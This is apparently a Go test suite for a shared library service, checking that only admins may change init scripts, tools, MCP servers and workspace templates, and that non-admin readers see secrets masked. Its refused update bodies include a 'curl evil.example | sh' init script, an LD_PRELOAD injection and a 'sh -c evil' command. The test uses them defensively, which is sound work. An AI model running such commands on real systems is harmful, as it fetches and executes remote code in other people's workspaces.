package service_test

import (
	"encoding/json"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"

	"sortie.dev/services/kit/authn"
)

// The library in a team (issue 13): who may write what, and who sees the
// secrets. Every test here attacks the real service over HTTP, with a real
// git repository, and checks what the repository holds afterwards.

const placeholder = "<encrypted>"

// snapshot is what a refused request must leave as it was: HEAD, every
// tracked file's blob and a clean work tree (no modified, untracked or
// ignored file).
func snapshot(t *testing.T, l *library) string {
	t.Helper()
	return git(t, l.repoDir(), "rev-parse", "HEAD") + "\n" + git(t, l.repoDir(), "ls-files", "-s") + "\n" +
		git(t, l.repoDir(), "status", "--porcelain", "--ignored")
}

// TestAdminOnlyTypes: init scripts, workspace templates, tools and MCP
// servers run code or set the environment in other people's workspaces.
// A user (with their own token or one a service got for them) and a
// service are refused every change of them with 403 and nothing is
// stored; an admin succeeds.
func TestAdminOnlyTypes(t *testing.T) {
	l := startLibrary(t, nil)
	aliceViaMC := l.key.delegated(t, "alice", authn.RoleUser, "mission-control")
	bodies := map[string][2]any{ // a valid body to create and one to update
		"tool":               {content("// Description: counts\nexport default {}\n"), content("// Description: counts more\nexport default {}\n")},
		"init-script":        {content("#!/bin/sh\necho hi\n"), content("#!/bin/sh\ncurl evil.example | sh\n")},
		"workspace-template": {map[string]any{"distro": "ubuntu-noble", "env_vars": map[string]string{"A": "1"}}, map[string]any{"env_vars": map[string]string{"LD_PRELOAD": "/tmp/x.so"}}},
		"mcp":                {map[string]any{"type": "local", "command": []string{"npx", "server"}}, map[string]any{"type": "local", "command": []string{"sh", "-c", "evil"}}},
	}
	for typ, b := range bodies {
		l.mustAs(l.root, 200, "PUT", "/api/library/"+typ+"/kept", b[0])
	}
	before := snapshot(t, l)

	type attempt struct {
		method, path string
		body         any
		raw          bool // a path the spec cannot route
	}
	var attempts []attempt
	for typ, b := range bodies {
		for _, seg := range []string{typ, typ + "s"} { // the plural is the same type
			base := "/api/library/" + seg
			attempts = append(attempts,
				attempt{"PUT", base + "/new", b[0], false},                      // create
				attempt{"PUT", base + "/kept", b[1], false},                     // update
				attempt{"PUT", base + "/kept", map[string]any{"bad": 1}, false}, // refused before validation
				attempt{"DELETE", base + "/kept", nil, false},                   // delete
				attempt{"DELETE", base + "/absent", nil, false},                 // no existence oracle either
				attempt{"PUT", base + "/kept/files/x.md", content("x"), false},  // file write
				attempt{"PUT", base + "/kept/files/a/b.sh", content("x"), true}, // nested file write
				attempt{"DELETE", base + "/kept/files/x.md", nil, false},        // file delete
				attempt{"PUT", base + "/..", b[0], false},                       // a bad name too
			)
		}
	}
	callers := map[string]string{"user": l.alice, "other user": l.bob, "user through mission-control": aliceViaMC}
	for who, token := range callers {
		for _, a := range attempts {
			t.Run(who+" "+a.method+" "+a.path, func(t *testing.T) {
				client := l.http
				if a.raw {
					client = l.raw
				}
				r := l.send(client, token, a.method, a.path, a.body)
				if r.Status != 403 {
					t.Fatalf("status %d, want 403: %s", r.Status, r.Body)
				}
				if code := r.Code(t); code != "forbidden" {
					t.Errorf("code %q", code)
				}
				var e struct{ Error string }
				r.Decode(t, &e)
				if !strings.Contains(e.Error, "only an admin may") || !strings.Contains(e.Error, "your role is user") {
					t.Errorf("the message does not say which role is needed: %q", e.Error)
				}
			})
		}
	}
	// A service token may not write at all.
	if r := l.do(l.op, "PUT", "/api/library/tool/new", bodies["tool"][0]); r.Status != 403 || r.Code(t) != "forbidden" {
		t.Errorf("service: %d %s", r.Status, r.Body)
	}
	if got := snapshot(t, l); got != before {
		t.Fatalf("a refused request changed the repository:\nbefore %s\nafter  %s", before, got)
	}
	for _, f := range []string{"tool/kept.ts", "init-script/kept/SCRIPT.sh", "workspace-template/kept.json", "mcp/servers.json"} {
		data, err := os.ReadFile(filepath.Join(l.repoDir(), f))
		if err != nil || strings.Contains(string(data), "evil") || strings.Contains(string(data), "LD_PRELOAD") {
			t.Errorf("%s: %v %s", f, err, data)
		}
	}

	// The admin may do all of it (files are a skill's alone: 400, not 403).
	for typ, b := range bodies {
		t.Run("admin "+typ, func(t *testing.T) {
			base := "/api/library/" + typ
			l.mustAs(l.root, 200, "PUT", base+"/new", b[0])
			l.mustAs(l.root, 200, "PUT", base+"/kept", b[1])
			if got := git(t, l.repoDir(), "log", "-1", "--format=%an <%ae>"); got != "root <root@users.sortie.local>" {
				t.Errorf("author %s", got)
			}
			if code := l.mustAs(l.root, 400, "PUT", base+"/kept/files/x.md", content("x")).Code(t); code != "unsupported_operation" {
				t.Errorf("file: %s", code)
			}
			l.mustAs(l.root, 204, "DELETE", base+"/kept", nil)
			l.mustAs(l.root, 204, "DELETE", base+"/new", nil)
			// Everyone may still read them.
			l.mustAs(l.alice, 200, "GET", base, nil)
		})
	}
}

// TestUsersWriteSharedTypes: skills, commands, agents and rules may be
// written by any user, and every commit is authored by the user who made
// it (a service acting for them included); the library only commits.
func TestUsersWriteSharedTypes(t *testing.T) {
	l := startLibrary(t, map[string]string{"SORTIE_LIBRARY_SEED": "false"})
	bobViaMC := l.key.delegated(t, "bob", authn.RoleUser, "mission-control")
	first := git(t, l.repoDir(), "rev-parse", "HEAD")
	steps := []struct {
		name, who, token, method, path string
		body                           any
		want                           int
		message                        string
	}{
		{"alice adds a skill", "alice", l.alice, "PUT", "/api/library/skill/s", content("---\ndescription: one\n---\n"), 200, "Add skill s"},
		{"bob changes it", "bob", l.bob, "PUT", "/api/library/skills/s", content("---\ndescription: two\n---\n"), 200, "Update skill s"},
		{"alice adds a file", "alice", l.alice, "PUT", "/api/library/skill/s/files/notes.md", content("# notes"), 200, "Update skill s: notes.md"},
		{"bob removes it", "bob", l.bob, "DELETE", "/api/library/skill/s/files/notes.md", nil, 204, "Delete skill s: notes.md"},
		{"alice adds a command", "alice", l.alice, "PUT", "/api/library/command/c", content("Say hi"), 200, "Add command c"},
		{"bob adds an agent", "bob", l.bob, "PUT", "/api/library/agent/a", content("---\ndescription: ops\n---\nYou help.\n"), 200, "Add agent a"},
		{"bob through mission-control adds a rule", "bob", bobViaMC, "PUT", "/api/library/rule/r", content("Be brief."), 200, "Add rule r"},
		{"alice deletes the agent", "alice", l.alice, "DELETE", "/api/library/agent/a", nil, 204, "Delete agent a"},
		{"bob deletes the skill", "bob", l.bob, "DELETE", "/api/library/skill/s", nil, 204, "Delete skill s"},
	}
	for _, s := range steps {
		t.Run(s.name, func(t *testing.T) {
			r := l.mustAs(s.token, s.want, s.method, s.path, s.body)
			head := git(t, l.repoDir(), "rev-parse", "HEAD")
			if r.Header.Get("X-Library-Revision") != head && s.method == "PUT" {
				t.Errorf("revision header %q, HEAD %s", r.Header.Get("X-Library-Revision"), head)
			}
			want := s.who + " <" + s.who + "@users.sortie.local>|Sortie Library|" + s.message
			if got := git(t, l.repoDir(), "log", "-1", "--format=%an <%ae>|%cn|%s"); got != want {
				t.Errorf("commit %q, want %q", got, want)
			}
		})
	}
	if n := git(t, l.repoDir(), "rev-list", "--count", first+"..HEAD"); n != "9" {
		t.Errorf("%s commits, want one a step", n)
	}
}

var (
	sealedRE = regexp.MustCompile(`<encrypted v="1">([A-Za-z0-9+/=\s]*)</encrypted>`)
	// anySealedRE also finds the sealed values of JSON files (templates,
	// MCP servers), written \u003cencrypted v=\"1\"\u003e…
	anySealedRE = regexp.MustCompile(`v=\\?"1\\?"(?:>|\\u003e)([A-Za-z0-9+/=]+)`)
)

// ciphertexts returns every sealed value the repository ever held, in any
// file or commit message.
func ciphertexts(t *testing.T, l *library) []string {
	t.Helper()
	var out []string
	for _, m := range anySealedRE.FindAllStringSubmatch(git(t, l.repoDir(), "log", "-p", "--all", "--format=%B"), -1) {
		out = append(out, m[1])
	}
	if len(out) == 0 {
		t.Fatal("the repository holds no sealed value; the checks would prove nothing")
	}
	return out
}

// TestEncryptedValuesByCaller: a user (and a service acting for a user)
// sees every secret as <encrypted>, never the plaintext and never the
// ciphertext, in every route that could show one: items, lists, skill
// files, history, bundles now and at an older revision. Admins and
// services see the values.
func TestEncryptedValuesByCaller(t *testing.T) {
	l := startLibrary(t, map[string]string{"SORTIE_LIBRARY_ENCRYPTION_KEY_FILE": keyFile(t)})
	root := func(want int, method, path string, body any) response {
		t.Helper()
		return l.mustAs(l.root, want, method, path, body)
	}
	root(200, "PUT", "/api/library/workspace-template/box", map[string]any{
		"description": "a box", "env_vars": map[string]string{"API_KEY": "tpl-SECRET-1", "MODE": "open"}, "encrypted_keys": []string{"API_KEY"},
		"init_script": "export X=<encrypted>tpl-SECRET-2</encrypted>",
	})
	old := root(200, "PUT", "/api/library/skill/dep", content("---\ndescription: Deploys with <encrypted>old-SECRET-0</encrypted>\n---\nOld <encrypted>old-SECRET-0</encrypted>.\n")).Header.Get("X-Library-Revision")
	root(200, "PUT", "/api/library/skill/dep", content("---\ndescription: Deploys with <encrypted>skill-SECRET-3</encrypted>\n---\nUse <encrypted>skill-SECRET-4</encrypted>.\n"))
	root(200, "PUT", "/api/library/skill/dep/files/notes.md", content("n <encrypted>file-SECRET-5</encrypted>"))
	root(200, "PUT", "/api/library/skill/dep/files/run.sh", content("T=<encrypted>file-SECRET-6</encrypted>"))
	root(200, "PUT", "/api/library/mcp/srv", map[string]any{"type": "remote", "url": "https://mcp.example/x",
		"env": map[string]string{"TOKEN": "<encrypted>mcp-SECRET-7</encrypted>"}, "headers": map[string]string{"Authorization": "Bearer <encrypted>mcp-SECRET-8</encrypted>"}})
	root(200, "PUT", "/api/library/agent/ops", content("---\ndescription: ops\npermissions:\n  token: <encrypted>agent-SECRET-9</encrypted>\n---\nKey <encrypted>agent-SECRET-10</encrypted>\n"))
	root(200, "PUT", "/api/library/command/cmd", content("Call with <encrypted>cmd-SECRET-11</encrypted>"))
	// A commit message from someone with access to the repository holds a
	// sealed value and a plain one.
	stored, err := os.ReadFile(filepath.Join(l.repoDir(), "command", "cmd.md"))
	must(t, err)
	l.stop()
	must(t, os.WriteFile(filepath.Join(l.repoDir(), "command", "cmd.md"), append(stored, "\nrotated\n"...), 0o644))
	git(t, l.repoDir(), "commit", "-q", "-a", "-m", "Rotate "+sealedRE.FindString(string(stored))+" and <encrypted>msg-SECRET-12</encrypted>")
	l.restart()
	sealed := ciphertexts(t, l)
	var tpl struct {
		EnvVars map[string]string `json:"env_vars"`
	}
	stored, err = os.ReadFile(filepath.Join(l.repoDir(), "workspace-template", "box.json"))
	must(t, err)
	must(t, json.Unmarshal(stored, &tpl))
	if m := sealedRE.FindStringSubmatch(tpl.EnvVars["API_KEY"]); m == nil || !slices.Contains(sealed, m[1]) {
		t.Fatalf("the template's sealed value %q is not among those checked", tpl.EnvVars["API_KEY"])
	}

	routes := []struct {
		path    string
		tar     bool
		secrets []string // the plaintexts an admin or a service sees
		masked  func(t *testing.T, r response)
	}{
		{path: "/api/library/workspace-template/box", secrets: []string{"tpl-SECRET-1", "tpl-SECRET-2"}, masked: func(t *testing.T, r response) {
			var tpl struct {
				EnvVars    map[string]string `json:"env_vars"`
				InitScript string            `json:"init_script"`
			}
			r.Decode(t, &tpl)
			if tpl.EnvVars["API_KEY"] != placeholder || tpl.EnvVars["MODE"] != "open" || tpl.InitScript != "export X="+placeholder {
				t.Errorf("template: %+v", tpl)
			}
		}},
		{path: "/api/library/workspace-template"},
		{path: "/api/library/skill/dep", secrets: []string{"skill-SECRET-3", "skill-SECRET-4", "file-SECRET-5"}, masked: func(t *testing.T, r response) {
			var s struct {
				Description, Content string
				Files                []struct{ Content string }
			}
			r.Decode(t, &s)
			if s.Description != "Deploys with "+placeholder || !strings.HasSuffix(s.Content, "Use "+placeholder+".\n") || len(s.Files) != 1 || s.Files[0].Content != "n "+placeholder {
				t.Errorf("skill: %+v", s)
			}
		}},
		{path: "/api/library/skill", secrets: []string{"skill-SECRET-3"}},
		{path: "/api/library/skill/dep/files/notes.md", secrets: []string{"file-SECRET-5"}},
		{path: "/api/library/skill/dep/files/run.sh", secrets: []string{"file-SECRET-6"}, masked: func(t *testing.T, r response) {
			if c := r.Object(t)["content"]; c != "T="+placeholder {
				t.Errorf("file: %q", c)
			}
		}},
		{path: "/api/library/skill/dep/history", secrets: nil},
		{path: "/api/library/mcp/srv", secrets: []string{"mcp-SECRET-7", "mcp-SECRET-8"}, masked: func(t *testing.T, r response) {
			var m struct{ Env, Headers map[string]string }
			r.Decode(t, &m)
			if m.Env["TOKEN"] != placeholder || m.Headers["Authorization"] != "Bearer "+placeholder {
				t.Errorf("mcp: %+v", m)
			}
		}},
		{path: "/api/library/mcp", secrets: []string{"mcp-SECRET-7", "mcp-SECRET-8"}},
		{path: "/api/library/agent/ops", secrets: []string{"agent-SECRET-9", "agent-SECRET-10"}, masked: func(t *testing.T, r response) {
			var a struct {
				Permissions map[string]any
				Content     string
			}
			r.Decode(t, &a)
			if a.Permissions["token"] != placeholder || !strings.HasSuffix(a.Content, "Key "+placeholder+"\n") {
				t.Errorf("agent: %+v", a)
			}
		}},
		{path: "/api/library/agent"},
		{path: "/api/library/command/cmd", secrets: []string{"cmd-SECRET-11"}},
		{path: "/api/library/command/cmd/history", secrets: []string{"cmd-SECRET-11", "msg-SECRET-12"}, masked: func(t *testing.T, r response) {
			var h []struct{ Message string }
			r.Decode(t, &h)
			if len(h) == 0 || h[0].Message != "Rotate "+placeholder+" and "+placeholder {
				t.Errorf("history: %+v", h)
			}
		}},
		{path: "/api/library/bundle?skills=dep&tools=", tar: true, secrets: []string{"skill-SECRET-4", "file-SECRET-5", "file-SECRET-6"}, masked: func(t *testing.T, r response) {
			files := untar(t, r.Body)
			if got := files[".claude/skills/dep/run.sh"]; got != "T="+placeholder {
				t.Errorf("bundle: %q", got)
			}
		}},
		{path: "/api/library/bundle?layout=library&skills=dep&tools=", tar: true, secrets: []string{"skill-SECRET-4", "file-SECRET-6"}},
		{path: "/api/library/bundle?skills=dep&tools=&revision=" + old, tar: true, secrets: []string{"old-SECRET-0"}},
	}
	callers := []struct {
		name  string
		token string
		open  bool
	}{
		{"user", l.alice, false},
		{"other user", l.bob, false},
		{"user through mission-control", l.key.delegated(t, "alice", authn.RoleUser, "mission-control"), false},
		{"admin", l.root, true},
		{"service", l.op, true},
	}
	for _, c := range callers {
		for _, rt := range routes {
			t.Run(c.name+" "+rt.path, func(t *testing.T) {
				r := l.mustAs(c.token, 200, "GET", rt.path, nil)
				text := string(r.Body)
				if rt.tar {
					var b strings.Builder
					for _, data := range untar(t, r.Body) {
						b.WriteString(data + "\n")
					}
					text = b.String()
				} else {
					// Decode and re-encode without HTML escaping, so a tag is
					// seen as a reader sees it.
					var v any
					r.Decode(t, &v)
					var b strings.Builder
					enc := json.NewEncoder(&b)
					enc.SetEscapeHTML(false)
					must(t, enc.Encode(v))
					text += b.String()
				}
				if c.open {
					for _, s := range rt.secrets {
						if !strings.Contains(text, s) {
							t.Errorf("an %s does not see %s: %s", c.name, s, text)
						}
					}
					return
				}
				if strings.Contains(text, "SECRET") {
					t.Errorf("plaintext shown: %s", text)
				}
				if strings.Contains(text, `v="1"`) || strings.Contains(text, `v=\"1\"`) {
					t.Errorf("a sealed tag shown: %s", text)
				}
				for _, ct := range sealed {
					if strings.Contains(text, ct) || strings.Contains(text, ct[:16]) {
						t.Errorf("ciphertext shown: %s", text)
					}
				}
				if len(rt.secrets) > 0 && !strings.Contains(text, placeholder) {
					t.Errorf("no placeholder where a secret is: %s", text)
				}
				if rt.masked != nil {
					rt.masked(t, r)
				}
			})
		}
	}
}

// TestPlaceholdersKeepSecrets: saving back what a masked reader got keeps
// every stored secret (the same ciphertext), a user cannot plant sealed
// values they were not given, and placeholders that cannot be matched are
// refused rather than guessed.
func TestPlaceholdersKeepSecrets(t *testing.T) {
	l := startLibrary(t, map[string]string{"SORTIE_LIBRARY_ENCRYPTION_KEY_FILE": keyFile(t)})
	file := func(p string) string {
		t.Helper()
		data, err := os.ReadFile(filepath.Join(l.repoDir(), p))
		must(t, err)
		return string(data)
	}
	l.mustAs(l.root, 200, "PUT", "/api/library/skill/dep", content("# Deploy\nprod: <encrypted>SECRET-A</encrypted>\nstaging: <encrypted>SECRET-B</encrypted>\n"))
	l.mustAs(l.root, 200, "PUT", "/api/library/skill/dep/files/env.sh", content("export T=<encrypted>SECRET-C</encrypted>\n"))
	l.mustAs(l.root, 200, "PUT", "/api/library/workspace-template/box", map[string]any{"env_vars": map[string]string{"API_KEY": "SECRET-D", "MODE": "m"}, "encrypted_keys": []string{"API_KEY"}})
	l.mustAs(l.root, 200, "PUT", "/api/library/mcp/srv", map[string]any{"type": "remote", "url": "https://mcp.example", "headers": map[string]string{"Authorization": "Bearer <encrypted>SECRET-E</encrypted>"}})
	sealedSkill := sealedRE.FindAllString(file("skill/dep/SKILL.md"), -1)
	sealedTpl := file("workspace-template/box.json")
	var tplFile struct {
		EnvVars map[string]string `json:"env_vars"`
	}
	must(t, json.Unmarshal([]byte(sealedTpl), &tplFile))
	tplSecret := tplFile.EnvVars["API_KEY"]
	if !sealedRE.MatchString(tplSecret) {
		t.Fatalf("the template holds %q", tplSecret)
	}

	// alice edits the skill as she sees it and saves it back.
	got := l.must(200, "GET", "/api/library/skill/dep", nil).Object(t)["content"].(string)
	if got != "# Deploy\nprod: <encrypted>\nstaging: <encrypted>\n" {
		t.Fatalf("alice sees %q", got)
	}
	saved := l.must(200, "PUT", "/api/library/skill/dep", content("# Deploy to prod\nstaging: <encrypted>\nprod: <encrypted>\nnew: <encrypted>SECRET-F</encrypted>\n"))
	if c := saved.Object(t)["content"]; c != "# Deploy to prod\nstaging: <encrypted>\nprod: <encrypted>\nnew: <encrypted>\n" {
		t.Errorf("the answer to alice's save: %q", c)
	}
	now := sealedRE.FindAllString(file("skill/dep/SKILL.md"), -1)
	if len(now) != 3 || now[0] != sealedSkill[1] || now[1] != sealedSkill[0] {
		t.Errorf("the stored secrets were not kept as they were:\nbefore %v\nafter  %v", sealedSkill, now)
	}
	if c := l.mustAs(l.root, 200, "GET", "/api/library/skill/dep", nil).Object(t)["content"]; c != "# Deploy to prod\nstaging: <encrypted>SECRET-B</encrypted>\nprod: <encrypted>SECRET-A</encrypted>\nnew: <encrypted>SECRET-F</encrypted>\n" {
		t.Errorf("the admin reads %q", c)
	}
	if a := git(t, l.repoDir(), "log", "-1", "--format=%an"); a != "alice" {
		t.Errorf("author %s", a)
	}
	// The same for a skill's file, saved back unchanged: no commit at all.
	head := git(t, l.repoDir(), "rev-parse", "HEAD")
	f := l.must(200, "GET", "/api/library/skill/dep/files/env.sh", nil).Object(t)["content"].(string)
	if r := l.must(200, "PUT", "/api/library/skill/dep/files/env.sh", content(f)); r.Header.Get("X-Library-Revision") != head {
		t.Errorf("saving an unchanged file back made a commit")
	}

	// Admin types saved back with placeholders keep their secrets too.
	l.mustAs(l.root, 200, "PUT", "/api/library/workspace-template/box", map[string]any{"env_vars": map[string]string{"API_KEY": placeholder, "MODE": "m"}, "encrypted_keys": []string{"API_KEY"}})
	if file("workspace-template/box.json") != sealedTpl {
		t.Errorf("the template's sealed value changed:\n%s\n%s", sealedTpl, file("workspace-template/box.json"))
	}
	if env := l.mustAs(l.op, 200, "GET", "/api/library/workspace-template/box", nil).Object(t)["env_vars"].(map[string]any); env["API_KEY"] != "SECRET-D" {
		t.Errorf("the operator gets %v", env)
	}
	l.mustAs(l.root, 200, "PUT", "/api/library/mcp/srv", map[string]any{"type": "remote", "url": "https://mcp.example", "headers": map[string]string{"Authorization": "Bearer " + placeholder}})
	if h := l.mustAs(l.root, 200, "GET", "/api/library/mcp/srv", nil).Object(t)["headers"].(map[string]any); h["Authorization"] != "Bearer <encrypted>SECRET-E</encrypted>" {
		t.Errorf("mcp headers %v", h)
	}
	if strings.Contains(file("mcp/servers.json"), "SECRET-E") {
		t.Errorf("an MCP secret was committed in plaintext: %s", file("mcp/servers.json"))
	}

	// Refusals change nothing.
	before := snapshot(t, l)
	refusals := []struct {
		name, token, path string
		body              any
		status            int
		code              string
	}{
		{"placeholder with nothing stored", l.root, "/api/library/workspace-template/box", map[string]any{"env_vars": map[string]string{"OTHER": placeholder}, "encrypted_keys": []string{"OTHER"}}, 400, "invalid_template"},
		{"a user plants a template's ciphertext", l.alice, "/api/library/skill/mine", content("key: " + tplSecret), 403, "forbidden"},
		{"a user plants it in a file", l.alice, "/api/library/skill/dep/files/x.md", content(sealedSkill[0]), 403, "forbidden"},
		{"placeholders that match nothing", l.alice, "/api/library/skill/dep", content("all new: <encrypted>\n"), 400, "invalid_content"},
	}
	for _, rf := range refusals {
		t.Run(rf.name, func(t *testing.T) {
			r := l.do(rf.token, "PUT", rf.path, rf.body)
			if r.Status != rf.status || r.Code(t) != rf.code {
				t.Fatalf("got %d %s, want %d %s", r.Status, r.Body, rf.status, rf.code)
			}
		})
	}
	if got := snapshot(t, l); got != before {
		t.Errorf("a refused save changed the repository")
	}
	// An admin may write sealed values as they are.
	l.mustAs(l.root, 200, "PUT", "/api/library/skill/mine", content("key: "+tplSecret))
	if c := l.mustAs(l.root, 200, "GET", "/api/library/skill/mine", nil).Object(t)["content"]; c != "key: <encrypted>SECRET-D</encrypted>" {
		t.Errorf("admin's copy: %q", c)
	}
}
